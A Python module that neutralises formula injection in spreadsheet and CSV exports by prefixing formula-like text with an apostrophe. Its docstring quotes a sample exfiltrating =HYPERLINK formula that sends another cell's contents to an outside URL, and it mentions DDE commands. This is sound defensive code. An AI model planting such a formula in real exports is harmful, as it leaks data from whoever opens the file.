"""Cells the product writes into a spreadsheet or a CSV: text never becomes a formula.

A register name such as ``=HYPERLINK("http://…?leak="&B2,"详情")`` comes from whoever filled the
register; written as is, Excel or WPS would run it when the office opens the export (a link that
sends other cells away, or a DDE command). Every sheet and CSV the product writes passes its values
through ``sheet_value``: text that a spreadsheet would read as a formula gets a leading apostrophe,
as OWASP advises, so it shows as the text it is. Plain signed numbers ("-5", "+8613912345678") are
left alone: a spreadsheet reads them as the numbers they are, not as formulas.
"""

from __future__ import annotations

import re
from typing import TypeVar

# What Excel, WPS and LibreOffice start a formula with; tab and CR hide one behind a blank.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_SIGNED_NUMBER = re.compile(r"[+-][0-9]+(?:\.[0-9]+)?")
T = TypeVar("T")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and _SIGNED_NUMBER.fullmatch(text) is None


def sheet_value(value: T) -> T | str:
    """``value`` as it may be written into a cell: formula-like text as text, the rest unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value
